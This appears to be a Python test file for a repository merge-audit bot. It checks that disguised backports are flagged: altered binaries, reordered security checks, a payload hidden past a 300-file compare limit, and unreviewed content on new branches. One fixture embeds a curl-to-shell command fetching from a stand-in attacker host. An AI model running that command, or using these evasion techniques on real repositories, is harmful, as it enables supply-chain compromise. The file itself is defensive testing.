"""Issue 9: attacks on backport inheritance found in review (a renamed binary with new bytes, the
same lines in another order, a push past the compare's 300 files, a new branch carrying a
cherry-pick line) and a false alarm (cherry-picks of a rebase-merged pull request)."""

from __future__ import annotations

from tests.support import Bot
from tests.test_merge_audit import make_repo, merge_and_deliver, record

BLOB = b"\x7fELF\x00" + bytes(range(256)) * 8


async def _repo(bot: Bot, files: dict) -> object:
    repo = make_repo(bot.fake, files=files)
    repo.create_branch("3.12")
    repo.protect("3.*")
    return repo


async def test_a_renamed_binary_with_changed_bytes_is_not_a_clean_backport(bot: Bot):
    repo = await _repo(bot, {"tools/helper.bin": BLOB})
    original = repo.open_pull(
        author="alice",
        title="Rename helper",
        commits=[{"message": "Rename", "renames": {"tools/run.bin": "tools/helper.bin"}}],
    )
    original.review("bob", "APPROVED")
    original.review("carol", "APPROVED")
    await merge_and_deliver(bot, original, by="alice", method="squash")
    patched = BLOB[:100] + b"\xcc\xcc\xcc\xcc" + BLOB[104:]  # still "similar": a rename
    pr = repo.open_pull(
        author="dave",
        base="3.12",
        title=f"[3.12] Rename helper (GH-{original.number})",
        body=f"(cherry picked from commit {original.merge_commit_sha})",
        commits=[
            {
                "message": "Rename",
                "renames": {"tools/run.bin": "tools/helper.bin"},
                "files": {"tools/run.bin": patched},
            }
        ],
    )
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["backport"]["clean"] is False
    assert data["conclusion"] == "failure"


async def test_the_same_lines_in_another_order_are_not_a_clean_backport(bot: Bot):
    old = "def grant(user):\n    return do_grant(user)\n"
    fixed = "def grant(user):\n    check(user)\n    audit(user)\n    return do_grant(user)\n"
    dead = "def grant(user):\n    audit(user)\n    return do_grant(user)\n    check(user)\n"
    repo = await _repo(bot, {"lib/auth.py": old})
    original = repo.open_pull(author="alice", title="Check", files={"lib/auth.py": fixed})
    original.review("bob", "APPROVED")
    await merge_and_deliver(bot, original, by="alice", method="squash")
    pr = repo.open_pull(
        author="dave",
        base="3.12",
        title=f"[3.12] Check (GH-{original.number})",
        body=f"(cherry picked from commit {original.merge_commit_sha})",
        files={"lib/auth.py": dead},  # the check moved after the return
    )
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["backport"]["clean"] is False
    assert data["status"] != "reviewed"


async def test_a_pushed_backport_of_more_than_300_files_is_never_clean(bot: Bot):
    docs = {f"docs/f{i:03}.txt": "old\n" for i in range(300)}
    repo = await _repo(bot, {**docs, "zzz/tool.py": "print('ok')\n"})
    fixed = {path: "new\n" for path in docs}
    original = repo.open_pull(author="alice", title="Docs", files=fixed)
    original.review("bob", "APPROVED")
    await merge_and_deliver(bot, original, by="alice", method="squash")
    message = f"Docs\n\n(cherry picked from commit {original.merge_commit_sha})"
    evil = "import os; os.system('curl evil.example | sh')\n"
    push = repo.push(
        "3.12",
        [{"message": message, "files": {**fixed, "zzz/tool.py": evil}, "author": "dave"}],
        pusher="dave",
    )
    await bot.deliver(bot.fake.webhooks.push(push))
    data = record(repo, push.after)
    assert data["backport"]["clean"] is False  # zzz/tool.py is file 301
    assert data["conclusion"] != "success"


async def test_false_alarm_cherry_pick_x_of_a_rebase_merged_pull_request(bot: Bot):
    repo = await _repo(bot, {"a.py": "a\n", "b.py": "b\n"})
    original = repo.open_pull(
        author="alice",
        title="Two",
        commits=[
            {"message": "one", "files": {"a.py": "a2\n"}},
            {"message": "two", "files": {"b.py": "b2\n"}},
        ],
    )
    original.review("bob", "APPROVED")
    await merge_and_deliver(bot, original, by="alice", method="rebase")
    last = repo.branches["main"]
    first = repo.commit_obj(last).parents[0]
    pr = repo.open_pull(  # git cherry-pick -x first last
        author="dave",
        base="3.12",
        title=f"[3.12] Two (GH-{original.number})",
        body="",
        commits=[
            {"message": f"one\n\n(cherry picked from commit {first})", "files": {"a.py": "a2\n"}},
            {"message": f"two\n\n(cherry picked from commit {last})", "files": {"b.py": "b2\n"}},
        ],
    )
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert not data["backport"]["refused"], data["backport"]["refused"]
    assert data["backport"]["clean"] and data["status"] == "reviewed"


async def test_a_new_branch_pushed_with_a_cherry_pick_line_is_still_audited(bot: Bot):
    from tests.test_backports import NEW, repo_with_original

    repo, original = await repo_with_original(bot)
    message = f"Fix\n\n(cherry picked from commit {original.merge_commit_sha})"
    push = repo.push(  # creates protected 3.13 (before = 000…0) with unreviewed content
        "3.13",
        [{"message": message, "files": {"configure": NEW + "evil\n"}, "author": "dave"}],
        pusher="dave",
        from_ref="3.12",
    )
    await bot.deliver(bot.fake.webhooks.push(push))
    data = record(repo, push.after)
    assert data["conclusion"] != "success"
